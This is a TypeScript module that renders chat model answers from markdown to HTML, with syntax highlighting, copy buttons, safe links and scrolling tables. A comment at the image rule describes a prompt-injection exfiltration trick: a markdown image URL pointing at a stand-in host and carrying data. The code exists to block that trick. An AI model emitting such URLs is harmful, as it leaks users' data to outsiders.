import MarkdownIt from 'markdown-it'
import hljs from 'highlight.js/lib/core'
import bash from 'highlight.js/lib/languages/bash'
import csharp from 'highlight.js/lib/languages/csharp'
import css from 'highlight.js/lib/languages/css'
import diff from 'highlight.js/lib/languages/diff'
import java from 'highlight.js/lib/languages/java'
import javascript from 'highlight.js/lib/languages/javascript'
import json from 'highlight.js/lib/languages/json'
import plaintext from 'highlight.js/lib/languages/plaintext'
import powershell from 'highlight.js/lib/languages/powershell'
import python from 'highlight.js/lib/languages/python'
import sql from 'highlight.js/lib/languages/sql'
import typescript from 'highlight.js/lib/languages/typescript'
import xml from 'highlight.js/lib/languages/xml'
import yaml from 'highlight.js/lib/languages/yaml'

// Only the core and a handful of languages: the full highlight.js bundle is ~1 MB. This module is
// imported by the lazily loaded MessageContent component only, so it stays out of the first page.
const languages = { bash, csharp, css, diff, java, javascript, json, plaintext, powershell, python, sql, typescript, xml, yaml }
for (const [name, language] of Object.entries(languages)) hljs.registerLanguage(name, language)
hljs.registerAliases(['sh', 'shell', 'zsh', 'console'], { languageName: 'bash' })
hljs.registerAliases(['ts', 'tsx'], { languageName: 'typescript' })
hljs.registerAliases(['js', 'jsx', 'mjs', 'cjs'], { languageName: 'javascript' })
hljs.registerAliases(['py'], { languageName: 'python' })
hljs.registerAliases(['cs', 'c#'], { languageName: 'csharp' })
hljs.registerAliases(['html', 'svg', 'vue'], { languageName: 'xml' })
hljs.registerAliases(['yml'], { languageName: 'yaml' })
hljs.registerAliases(['ps', 'ps1', 'pwsh'], { languageName: 'powershell' })
hljs.registerAliases(['text', 'txt'], { languageName: 'plaintext' })

const copyIcon = '<svg aria-hidden="true" width="14" height="14" viewBox="0 0 24 24" fill="none" stroke="currentColor" stroke-width="2" stroke-linecap="round" stroke-linejoin="round"><rect width="14" height="14" x="8" y="8" rx="2"/><path d="M4 16c-1.1 0-2-.9-2-2V4c0-1.1.9-2 2-2h10c1.1 0 2 .9 2 2"/></svg>'

/** The words the renderer writes itself, in the reader's language (chat.code.* in the messages). */
export interface MarkdownLabels {
  copy: string
  copyCode: string
  /** An image's link text, e.g. "[image: chart]". */
  image: (alt: string) => string
}

// For callers without a translator (the unit tests); the app passes the reader's words.
const ENGLISH: MarkdownLabels = { copy: 'Copy', copyCode: 'Copy code', image: alt => `[image: ${alt}]` }

/** What renderMarkdown hands to the rules below. */
interface RenderEnv { labels: MarkdownLabels }

// markdown-it types env loosely; renderMarkdown always passes a RenderEnv.
function labelsOf(env: unknown): MarkdownLabels {
  return (env as RenderEnv).labels
}

// html: false is the safety line: any HTML in a model answer is shown as text, never parsed.
const md = new MarkdownIt({ html: false, linkify: true, breaks: false, typographer: false })

md.renderer.rules.fence = (tokens, index, _options, env) => {
  const token = tokens[index]!
  const labels = labelsOf(env)
  const info = token.info.trim().split(/\s+/)[0] ?? ''
  const language = info && hljs.getLanguage(info) ? info : ''
  const body = language
    ? hljs.highlight(token.content, { language, ignoreIllegals: true }).value
    : md.utils.escapeHtml(token.content)
  const label = md.utils.escapeHtml(info || 'text')
  return `<div class="code-block"><div class="code-block-bar"><span class="code-block-lang">${label}</span>`
    + `<button type="button" class="code-copy" data-copy-code aria-label="${md.utils.escapeHtml(labels.copyCode)}" data-testid="copy-code">${copyIcon}<span>${md.utils.escapeHtml(labels.copy)}</span></button></div>`
    + `<pre><code class="hljs${language ? ` language-${md.utils.escapeHtml(language)}` : ''}">${body}</code></pre></div>\n`
}

// Links from a model answer leave the app in a new tab, without giving it a handle on ours.
const defaultLinkOpen = md.renderer.rules.link_open ?? ((tokens, index, options, _env, self) => self.renderToken(tokens, index, options))
md.renderer.rules.link_open = (tokens, index, options, env, self) => {
  const token = tokens[index]!
  token.attrSet('target', '_blank')
  token.attrSet('rel', 'noopener noreferrer')
  return defaultLinkOpen(tokens, index, options, env, self)
}

// No remote images from a model answer: an injected prompt could make the model write
// ![](https://elsewhere/?data=...) and the browser would send it out on render. Show a link instead.
md.renderer.rules.image = (tokens, index, options, env, self) => {
  const token = tokens[index]!
  const src = String(token.attrGet('src') ?? '')
  const alt = self.renderInlineAsText(token.children ?? [], options, env) || src
  return `<a href="${md.utils.escapeHtml(src)}" target="_blank" rel="noopener noreferrer">${md.utils.escapeHtml(labelsOf(env).image(alt))}</a>`
}

// Wide tables scroll inside their own box instead of widening the whole conversation.
md.renderer.rules.table_open = () => '<div class="table-scroll"><table>\n'
md.renderer.rules.table_close = () => '</table></div>\n'

export function renderMarkdown(text: string, labels: MarkdownLabels = ENGLISH): string {
  return md.render(text, { labels })
}
